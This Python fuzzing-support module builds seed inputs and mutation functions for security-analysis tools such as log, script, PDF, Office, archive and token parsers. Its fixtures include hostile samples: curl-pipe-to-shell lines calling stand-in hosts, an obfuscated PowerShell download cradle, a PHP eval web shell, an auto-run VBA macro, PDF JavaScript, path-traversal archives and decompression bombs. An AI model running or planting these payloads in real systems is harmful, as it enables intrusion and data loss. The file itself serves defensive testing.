"""Inputs for every tool, and ways to damage them: what the fuzzing feeds.

``seeds_for`` gives whole inputs for a skill; a skill without its own is fed those of all others, so that a new tool is
fuzzed from its first day. ``damaged`` is pure: the same changes give the same bytes.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import tarfile
import zipfile
from collections.abc import Callable, Sequence
from functools import cache

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from hypothesis import strategies as st

from tests.support import captures, evtx_writer, host_files, mails, office_files, program_files

MAX_BYTES = 2_000_000  # of a damaged input, including repetitions


def seeds_for(name: str) -> tuple[bytes, ...]:
    """Whole inputs of the kinds that the skill reads; of every kind if it has none here."""
    seeds = all_seeds()
    return seeds.get(name) or tuple(seed for many in seeds.values() for seed in many)


def _host_artefacts() -> tuple[bytes, ...]:
    run = r"Software\Microsoft\Windows\CurrentVersion\Run"
    prefetch = host_files.prefetch("A.EXE", r"\VOLUME{1}\WINDOWS\A.EXE", ["2026-11-20 03:12:45"], 2)
    return (
        host_files.hive(
            host_files.keys({run: ("2026-11-20 03:12:45", {"A": r"C:\Users\Public\a.exe", "B": bytes(40)})})
        ),
        host_files.utmp_record(7, "2026-11-20 03:12:45", "mara", "pts/0", "192.0.2.7", "192.0.2.7") * 3,
        prefetch,
        host_files.compressed(prefetch),
        host_files.usn_record("a.exe", "2026-11-20 03:12:45", 0x100)
        + host_files.usn_record("b", "2026-11-20 03:12:46", 0x200),
        host_files.mft_record(0, "$MFT", "2026-01-02 08:00:00")
        + host_files.mft_record(1, "a.exe", "2026-11-20 03:12:45"),
        host_files.chrome(
            [("https://a.example/", "A", "2026-11-20 03:12:45")],
            [("C:\\a.iso", "http://a.example/a.iso", "2026-11-20 03:12:45", 1)],
        ),
        host_files.firefox(
            [("https://a.example/", "A", "2026-11-20 03:12:45")],
            [("/a.hta", "http://a.example/a.hta", "2026-11-20 03:12:45")],
        ),
        host_files.jump_list([(r"C:\a.docx", "2026-11-20 03:12:45", "ws-17")]),
        host_files.custom_list([r"C:\a.docx"]),
        host_files.task("powershell.exe", "-enc QQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQA="),
        host_files.transcript("powershell.exe", ["PS C:\\> whoami", "x"]),
        b"*/5 * * * * root curl http://203.0.113.7/a | sh\n",
        b"[Service]\nExecStart=/tmp/a\n[Install]\nWantedBy=multi-user.target\n",
        b"#1795154000\nhistory -c\n#1795154060\nls\n",
    )


@cache
def all_seeds() -> dict[str, tuple[bytes, ...]]:
    """Whole inputs by skill."""
    web = captures.conversation(
        [(">", b"GET /a?id=1 HTTP/1.1\r\nHost: x.example\r\n\r\n"), ("<", b"HTTP/1.1 200 OK\r\n\r\n")]
    )
    frames = web + captures.question("a.example", missing=False) + captures.question("b.example", missing=True)
    vba = 'Sub AutoOpen()\r\n  Shell "cmd /c calc"\r\nEnd Sub\r\n'
    document = {"word/document.xml": "<w:document/>", "word/vbaProject.bin": office_files.project(vba)}
    native = office_files.native("setup.exe", program_files.pe())
    return {
        "auth_log": tuple(text.encode() for text in (_LOGINS, _JOURNAL)),
        "events": (_evtx(), *(text.encode() for text in (_SYSMON, _NESTED, _WEB, _AUDIT, _CLOUD, _CSV, _XML, _LOGINS))),
        "host_artefacts": _host_artefacts(),
        "pcap": (captures.capture(frames), captures.capture(frames, nano=True), captures.capture_ng(frames)),
        "mail": (*list(mails.TRAPS.values())[:6], *list(mails.ORDINARY.values())[:3]),
        "indicators": (_REPORT.encode(), _LOGINS.encode()),
        "threat_intel": tuple(text.encode() for text in (_BUNDLE, _EVENT, _OPENIOC, _SIGMA, _YARA, _LIST)),
        "decode": (base64.b64encode(gzip.compress(_SHELL.encode())), _SHELL.encode(), b"68656c6c6f20776f726c64" * 3),
        "cvss": (b"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", b"AV:N/AC:L/Au:N/C:P/I:P/A:P", _CVSS4.encode()),
        "program": (
            program_files.pe(exports=["Run"], overlay=b"PK\x03\x04" * 9),
            program_files.elf(extra=b"/bin/sh\x00http://x.example/a\x00"),
            program_files.macho(),
        ),
        "script": tuple(text.encode() for text in (_SHELL, _BASH, _BATCH, _JAVASCRIPT, vba)),
        "code_review": tuple(text.encode() for text in (_PYTHON, _HEADERS, _PHP, _DOCKER)),
        "pdf": (
            program_files.pdf(
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
                b"<< /S /JavaScript /JS 5 0 R >>",
                program_files.pdf_stream(b"eval(unescape('%u9090%u9090'));"),
            ),
        ),
        "office": (
            program_files.archive(document),
            office_files.project(vba),
            office_files.storage({"Workbook": office_files.records((0x809, bytes(16)), (0x85, bytes(20)))}),
            office_files.storage({"\x01Ole10Native": native}),
            rb"{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}}}",
        ),
        "shortcut": (office_files.shortcut("C:\\Windows\\System32\\cmd.exe", "/c calc", icon="C:\\a.ico"),),
        "archive": (_zip(), _tar(), gzip.compress(_tar()), bz2.compress(_tar()), lzma.compress(_tar())),
        "token": (_token({"alg": "HS256", "kid": "../a"}), _token({"alg": "none"})),
        "certificate": (_certificate(), _certificate().replace(b"\n", b"\r\n")),
        "versions": (
            b"Is 1.2.3 affected by >=1.0,<1.3?",
            b"openssl 3.0.1-2ubuntu1 in [3.0.0, 3.0.7)",
            b"1:2.3~rc1 < 2",
        ),
        "attack": (b"What is T1059.001?", b"which techniques does APT29 use, and S0154"),
        "behaviours": (_REPORT.encode(), b"The actor dumped credentials from LSASS and moved laterally over SMB."),
        "weakness": (b"A buffer overflow in the parser of names allows remote code execution.", b"What is CWE-79?"),
        "cve": (b"What is CVE-2021-44228, and CVE-2017-11882?",),
        "hash_kind": (
            b"5f4dcc3b5aa765d61d8327deb882cf99\n$2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW",
        ),
    }


_LOGINS = (
    "".join(
        f"Nov 20 03:12:{number:02} web1 sshd[{number}]: Failed password for root from 192.0.2.7 port 22 ssh2\n"
        for number in range(12)
    )
    + "Nov 20 03:13:00 web1 sshd[99]: Accepted password for root from 192.0.2.7 port 22 ssh2\n"
)
_JOURNAL = json.dumps(
    {"__REALTIME_TIMESTAMP": "1763600000000000", "SYSLOG_IDENTIFIER": "sshd", "_HOSTNAME": "web1",
     "MESSAGE": "Failed password for root from 192.0.2.7 port 22 ssh2"}
) + "\n"  # fmt: skip
_SYSMON = json.dumps(
    {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": "pc1", "ProcessId": 7,
     "TimeCreated": "2026-11-20T03:12:45.123Z", "Image": "C:\\Windows\\System32\\cmd.exe", "ParentProcessId": 1,
     "CommandLine": "cmd /c whoami"}
) + "\n"  # fmt: skip
_NESTED = json.dumps(
    {"Event": {"System": {"EventID": 4625, "Channel": "Security", "Computer": "pc1",
                          "TimeCreated": {"#attributes": {"SystemTime": "2026-11-20T03:12:45Z"}}},
               "EventData": {"TargetUserName": "root", "IpAddress": "192.0.2.7", "LogonType": 3}}}
) + "\n"  # fmt: skip
_WEB = '192.0.2.7 - - [20/Nov/2026:03:12:45 +0000] "GET /a?id=1%27+union+select+1-- HTTP/1.1" 200 12 "-" "curl/8"\n'
_AUDIT = (
    'type=EXECVE msg=audit(1763600000.123:7): argc=3 a0="sh" a1="-c" a2=6964\n'
    'type=SYSCALL msg=audit(1763600000.123:7): arch=c000003e syscall=59 success=yes uid=0 comm="sh" exe="/bin/sh"\n'
)
_CLOUD = json.dumps(
    {"Records": [{"eventVersion": "1.08", "eventTime": "2026-11-20T03:12:45Z", "eventName": "ConsoleLogin",
                  "eventSource": "signin.amazonaws.com", "awsRegion": "eu-west-1", "sourceIPAddress": "192.0.2.7",
                  "userIdentity": {"type": "IAMUser", "userName": "root"}}]}
)  # fmt: skip
_CSV = "TimeCreated,EventId,Channel,Computer,CommandLine\n2026-11-20T03:12:45Z,4688,Security,pc1,cmd /c whoami\n"
_XML = (
    "<Events><Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>4624</EventID>"
    "<Channel>Security</Channel><TimeCreated SystemTime='2026-11-20T03:12:45Z'/></System>"
    "<EventData><Data Name='TargetUserName'>root</Data></EventData></Event></Events>"
)
_REPORT = (
    "The group sent mail from a[@]b[.]example with hxxps://x[.]example/a.zip, "
    "SHA-256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08, CVE-2017-11882.\n"
    "It dumped credentials and wrote HKLM\\Software\\Run and C:\\Users\\a\\b.exe; then 192.0.2.7:443 was called.\n"
)
_BUNDLE = json.dumps(
    {
        "type": "bundle",
        "id": "bundle--1",
        "objects": [
            {
                "type": "indicator",
                "pattern_type": "stix",
                "pattern": "[ipv4-addr:value = '192.0.2.7' AND url:value='a']",
            },
            {"type": "malware", "name": "a"},
            {"type": "file", "name": "a.exe", "hashes": {"MD5": "0" * 32}},
        ],
    }
)
_EVENT = json.dumps({"Event": {"info": "a", "Attribute": [{"type": "filename|md5", "value": "a.exe|" + "a" * 32}]}})
_OPENIOC = (
    '<ioc xmlns="http://schemas.mandiant.com/2010/ioc"><IndicatorItem condition="is">'
    '<Context search="FileItem/FileName"/>'
    '<Content type="string">a.exe</Content></IndicatorItem></ioc>'
)
_SIGMA = "title: a\nlogsource: {product: windows}\ndetection:\n  a: {Image|contains: [b, c]}\n  condition: 1 of them\n"
_YARA = 'rule a {\n meta:\n  author = "b"\n strings:\n  $a = "c"\n condition:\n  $a\n}\n'
_LIST = "192[.]0[.]2[.]7\nevil[.]example\nindicator,type\na@example.org,email\nHKLM\\Software\\A\n"
_CVSS4 = "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N"
_SHELL = (
    "$a = 'I' + 'EX'; powershell -nop -w hidden -enc "
    + base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')".encode("utf-16-le")
    ).decode()
    + '\n& ("{1}{0}" -f "X","IE") ([char]65 + [Convert]::FromBase64String("aGk="))\n'
)
_BASH = (
    '#!/bin/bash\nx=$(echo aWQ= | base64 -d)\ncurl -s http://x.example/a | bash -c "$x" && rm -rf /tmp/a; cat <<E\nE\n'
)
_BATCH = "@echo off\r\nset a=cal\r\n%a:~0,3%c.exe & c^md /c echo %PATH% >nul\r\nfor %%i in (1 2) do echo %%i\r\n"
_JAVASCRIPT = "var s = new ActiveXObject('WScript.Shell'); eval(String.fromCharCode(97,98)); s['R'+'un'](`a${1}`, 0);\n"
_PYTHON = "import os, pickle\npassword = 'hunter2'\nos.system('ls ' + input())\npickle.loads(open('a','rb').read())\n"
_HEADERS = "HTTP/1.1 200 OK\r\nServer: nginx/1.2\r\nSet-Cookie: a=b; Path=/\r\nContent-Type: text/html\r\n\r\n"
_PHP = (
    "<?php\n$q = \"SELECT * FROM t WHERE id=\" . $_GET['id'];\nmysql_query($q); echo $_GET['x']; eval($_POST['c']);\n"
)
_DOCKER = "FROM ubuntu:latest\nUSER root\nENV KEY=AKIAIOSFODNN7EXAMPLE\nRUN curl http://x.example | sh\n"


def _evtx() -> bytes:
    failed = {"TargetUserName": "root", "IpAddress": "192.0.2.7", "LogonType": "3"}
    records = [evtx_writer.Record(number=number, event_id=4625, data=failed) for number in range(1, 9)]
    return evtx_writer.evtx(records[:4], [*records[4:], evtx_writer.Record(number=9, event_id=1102)])


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("../a.txt", "text " * 40)
        made.writestr("invoice.pdf.exe", program_files.pe())
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as made:
        entry = tarfile.TarInfo("a/b.sh")
        entry.size = 9
        made.addfile(entry, io.BytesIO(b"#!/bin/sh"))
        link = tarfile.TarInfo("l")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        made.addfile(link)
    return out.getvalue()


def _token(header: dict[str, str]) -> bytes:
    parts = [header | {"typ": "JWT"}, {"sub": "1", "exp": 1, "aud": ["a"], "admin": True}]
    encoded = [base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=") for part in parts]
    return b".".join([*encoded, b"c2lnbmF0dXJl"])


@cache
def _certificate() -> bytes:
    key = ec.derive_private_key(7, ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "a.example")])
    builder = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
    dates = builder.not_valid_before(mails.WHEN).not_valid_after(mails.WHEN.replace(year=2035))
    signed = dates.serial_number(7).sign(key, hashes.SHA256())
    return signed.public_bytes(serialization.Encoding.PEM)


Change = tuple[str, float, float, bytes]
"""What is done, where (a share of the length), how much of it (a share), and with which bytes."""


def _span(data: bytes, where: float, share: float) -> tuple[int, int]:
    """A start and an end within ``data``; small shares, so that most of an input stays whole."""
    start = int(where * len(data))
    return start, min(len(data), start + 1 + int(share * share * len(data)))


def _cut(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    return data[: int(where * len(data))]


def _flip(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    start = int(where * len(data))
    flipped = bytes(byte ^ (mask or 1) for byte, mask in zip(data[start:], piece, strict=False))
    return data[:start] + flipped + data[start + len(flipped) :]


def _extreme(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    numbers = (b"\xff\xff\xff\xff", b"\x00\x00\x00\x00", b"\xff\xff\xff\x7f", b"\x00\x00\x00\x80", b"\xff", b"\x00\x01")
    number = numbers[int(share * (len(numbers) - 1))]
    start = int(where * len(data))
    return data[:start] + number + data[start + len(number) :]


def _insert(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    start = int(where * len(data))
    return data[:start] + piece + data[start:]


def _delete(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    start, end = _span(data, where, share)
    return data[:start] + data[end:]


def _repeat(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    start, end = _span(data, where, share)
    times = 2 + int(300 * share)
    return (data[:start] + data[start:end] * times + data[end:])[:MAX_BYTES]


def _swap(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    start, end = _span(data, where, share)
    return data[end:] + data[start:end] + data[:start]


def _join(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    """Another kind of input in the middle of this one."""
    others = [seed for many in all_seeds().values() for seed in many]
    start = int(where * len(data))
    return data[:start] + others[int(share * (len(others) - 1))] + data[start:]


def _one_line(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    start = int(where * len(data))
    return data[:start] + (piece or b"x") * (1 + int(100_000 * share) // len(piece or b"x")) + data[start:]


def _no_ends(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    return data.replace(b"\r\n", b" ").replace(b"\n", b" ") * (1 + int(20 * share))


def _nest(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    openings = (b"[", b"(", b'{"a":', b"<a>", b"<<", b"$(", b"((", b"{", b"`")
    start = int(where * len(data))
    return data[:start] + openings[len(piece) % len(openings)] * (1 + int(20_000 * share)) + data[start:]


def _encode(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    encodings = ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig", "utf-7")
    return data.decode("latin-1").encode(encodings[int(share * (len(encodings) - 1))])


def _pack(data: bytes, where: float, share: float, piece: bytes) -> bytes:
    return (gzip.compress, bz2.compress, lzma.compress)[int(share * 2)](data)


CHANGES: dict[str, Callable[[bytes, float, float, bytes], bytes]] = {
    "cut": _cut,
    "flip": _flip,
    "extreme": _extreme,
    "insert": _insert,
    "delete": _delete,
    "repeat": _repeat,
    "swap": _swap,
    "join": _join,
    "one line": _one_line,
    "no line ends": _no_ends,
    "nest": _nest,
    "encode": _encode,
    "pack": _pack,
}
"""Each: the input, where, how much, and bytes to do it with."""

SHARES = st.floats(0, 1)
changes = st.lists(
    st.tuples(st.sampled_from(sorted(CHANGES)), SHARES, SHARES, st.binary(min_size=1, max_size=12)),
    min_size=1,
    max_size=5,
)
"""What may be done to an input, in order."""


def damaged(seed: bytes, done: Sequence[Change]) -> bytes:
    """The input after the changes, of at most MAX_BYTES."""
    for name, where, share, piece in done:
        seed = CHANGES[name](seed, where, share, piece)[:MAX_BYTES]
    return seed


HOSTILE: dict[str, bytes] = {
    "empty": b"",
    "one byte": b"\x00",
    "a space": b" ",
    "line ends": b"\r\n" * 20_000,
    "zeros": bytes(300_000),
    "one huge line": b"A" * 1_000_000,
    "one huge line of words": b"user@host.example 192.0.2.7 password " * 10_000,
    "a login line of brackets": b"Nov 20 03:12:00 h sshd[1]: Failed password " + b"[" * 60_000,
    "all bytes": bytes(range(256)) * 400,
    "broken UTF-8": b"\xff\xfe\xfa\xc3(" * 5_000,
    "half a surrogate": b"\xff\xfe\x00\xd8a\x00" * 999,
    "deep brackets": b"[" * 100_000,
    "deep objects": b'{"a":' * 50_000,
    "deep parentheses": b"(" * 100_000,
    "deep elements": b"<a>" * 50_000,
    "quotes that never end": b'"' + b"\\'" * 50_000,
    "spaces and colons": (b" " * 500 + b":") * 400,
    "dots and at signs": b"a." * 40_000 + b"@" + b".a" * 40_000,
    "digits": b"1." * 100_000,
    "hexadecimal": b"deadbeef" * 40_000,
    "base64": b"QUFB" * 100_000,
    "a bomb": gzip.compress(bytes(2_000_000)),
    "two bombs, one in the other": gzip.compress(gzip.compress(bytes(1_000_000))),
    "a cut archive": gzip.compress(bytes(range(256)) * 999)[:600],
}
"""Inputs that break parsers of any kind."""
